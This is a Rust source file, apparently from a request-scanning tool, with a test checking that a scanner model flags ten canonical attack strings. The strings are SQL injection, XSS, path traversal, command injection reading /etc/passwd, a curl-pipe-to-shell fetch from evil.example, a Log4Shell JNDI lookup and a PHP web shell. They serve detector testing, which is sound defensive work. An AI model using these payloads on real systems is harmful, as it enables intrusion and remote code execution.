// SPDX-License-Identifier: Apache-2.0
//! What every model of requests must doubt at least: attacks as plain as they come. One that lets any of them go was
//! badly trained, or made by somebody who wants that. Of windows see [`windows`].

mod windows;

use sunbeam_ensemble::ScannerModel;
use sunbeam_features::payload::{Facts, read};

pub use windows::{WorseOfWindows, worse_of_windows};

/// Canonical texts.
const ATTACKS: [&str; 10] = [
    "1' or '1'='1",
    "x' union select username,password from users-- -",
    "1; waitfor delay '0:0:5'--",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "$(curl evil.example/x|sh)",
    "${jndi:ldap://evil.example/a}",
    "<?php system($_get['c']); ?>",
];

/// The first of them that a model has nothing against.
pub fn first_let_go(model: &ScannerModel) -> Option<&'static str> {
    let mut facts = Facts::default();
    ATTACKS.into_iter().find(|attack| {
        read(attack.as_bytes(), &mut facts);
        model.payload.read(&facts).logit < model.payload.doubtful
    })
}

#[cfg(test)]
mod tests {
    use sunbeam_ensemble::builtin;

    use super::*;

    #[test]
    fn what_ships_lets_none_go_and_one_that_finds_nothing_does() {
        assert_eq!(first_let_go(&builtin::SCANNER), None);
        let mut blind = builtin::SCANNER.clone();
        blind.payload.doubtful = i32::MAX;
        assert_eq!(first_let_go(&blind), Some(ATTACKS[0]));
    }
}
